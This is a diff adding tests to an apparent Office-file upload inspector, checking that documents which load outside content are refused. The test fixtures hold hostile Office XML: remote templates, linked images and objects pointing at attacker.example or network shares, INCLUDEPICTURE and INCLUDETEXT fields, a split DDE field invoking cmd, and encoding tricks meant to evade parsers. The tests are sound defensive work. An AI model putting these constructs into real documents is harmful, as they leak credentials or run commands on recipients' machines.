@@ -89,6 +89,92 @@ test('an office file with macros, programs or a password in it is refused, and o
   ).toMatchObject({ kind: 'xlsx' })
 })
 
+const relationships = (...entries: string[]) =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join('')}</Relationships>`
+const officeType = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`
+const related = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<Relationship Id="rId1" Type="${officeType(type)}" Target="${target}"${mode}/>`
+const away = 'https://attacker.example/a'
+
+test.each([
+  ['template', { 'word/_rels/settings.xml.rels': relationships(related('attachedTemplate', away)) }],
+  [
+    'template on a share',
+    { 'word/_rels/settings.xml.rels': relationships(related('attachedTemplate', 'file://host/a')) },
+  ],
+  ['linked picture', { 'word/_rels/document.xml.rels': relationships(related('image', away)) }],
+  ['linked picture in a header', { 'word/_rels/header1.xml.rels': relationships(related('image', away)) }],
+  ['linked object', { 'word/_rels/document.xml.rels': relationships(related('oleObject', away)) }],
+  ['frame', { 'word/_rels/webSettings.xml.rels': relationships(related('frame', away)) }],
+  ['sub-document', { 'word/_rels/document.xml.rels': relationships(related('subDocument', away)) }],
+  ['imported part', { 'word/_rels/document.xml.rels': relationships(related('aFChunk', 'part.docx', '')) }],
+  [
+    'spelled otherwise',
+    {
+      'WORD/_rels/settings.xml.RELS': relationships(related('attachedTemplate', away, " TargetMode = '&#69;xternal'")),
+    },
+  ],
+  [
+    'with a prefix',
+    { 'word/_rels/a.xml.rels': relationships(related('image', away)).replaceAll('Relationship ', 'r:Relationship ') },
+  ],
+  [
+    'address without a mode',
+    { 'word/_rels/a.xml.rels': relationships(related('image', '\\\\host\\share\\a.png', '')) },
+  ],
+  [
+    'picture by a field',
+    { 'word/document.xml': '<w:instrText> INCLUDEPICTURE "https://attacker.example" \\d </w:instrText>' },
+  ],
+  [
+    'field in pieces',
+    {
+      'word/footer1.xml':
+        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText>',
+    },
+  ],
+  [
+    'simple field',
+    { 'word/document.xml': '<w:fldSimple w:instr=" INCLUDE&#84;EXT &quot;https://attacker.example&quot;"/>' },
+  ],
+])(
+  'S16: an office file that loads something from elsewhere is refused: %s',
+  async (_, parts: Record<string, string>) => {
+    expect(await inspect(word(parts))).toEqual({ fault: 'active' })
+  },
+)
+
+test('S16: a workbook with links to others or to databases is refused; hyperlinks and embedded parts are not', async () => {
+  const book = (more: Record<string, string>) =>
+    inspect(zipFile({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>', ...more }))
+  expect(await book({ 'xl/externalLinks/externalLink1.xml': '<e/>' })).toEqual({ fault: 'active' })
+  expect(await book({ 'xl/connections.xml': '<c/>' })).toEqual({ fault: 'active' })
+  expect(
+    await book({ 'xl/_rels/a.xml.rels': relationships(related('externalLinkPath', 'file:///c:/a.xlsx')) }),
+  ).toEqual({ fault: 'active' })
+  const links = relationships(
+    related('hyperlink', 'https://example.com/expose?a=1&amp;b=2'),
+    related('image', '../media/image1.png', ''),
+    related('styles', 'styles.xml', ' TargetMode="Internal"'),
+  )
+  expect(await book({ 'xl/worksheets/_rels/sheet1.xml.rels': links })).toMatchObject({ kind: 'xlsx' })
+  const page = '<w:instrText> PAGE </w:instrText><w:instrText> HYPERLINK "https://example.com" </w:instrText>'
+  expect(await inspect(word({ 'word/_rels/document.xml.rels': links, 'word/document.xml': page }))).toMatchObject({
+    kind: 'docx',
+  })
+})
+
+test('S16: relationships that cannot be read as an office program reads them are refused', async () => {
+  const rels = relationships(related('attachedTemplate', away))
+  const encoded = (text: string) => word({ 'word/_rels/settings.xml.rels': text })
+  expect(await inspect(encoded(rels.replace('UTF-8', 'UTF-16')))).toEqual({ fault: 'unreadable' })
+  expect(await inspect(encoded(rels.replace('?>', '?><!DOCTYPE r [<!ENTITY e "External">]>')))).toEqual({
+    fault: 'unreadable',
+  })
+  expect(await inspect(encoded(Array.from(rels, (sign) => `${sign}\0`).join('')))).toEqual({ fault: 'unreadable' })
+  expect(await inspect(encoded(`<a>${'x'.repeat(30_000_000)}</a>`))).toEqual({ fault: 'tooHard' })
+})
+
 const box = (type: string, ...content: Buffer[]) => {
   const body = Buffer.concat(content)
   const head = Buffer.alloc(8)
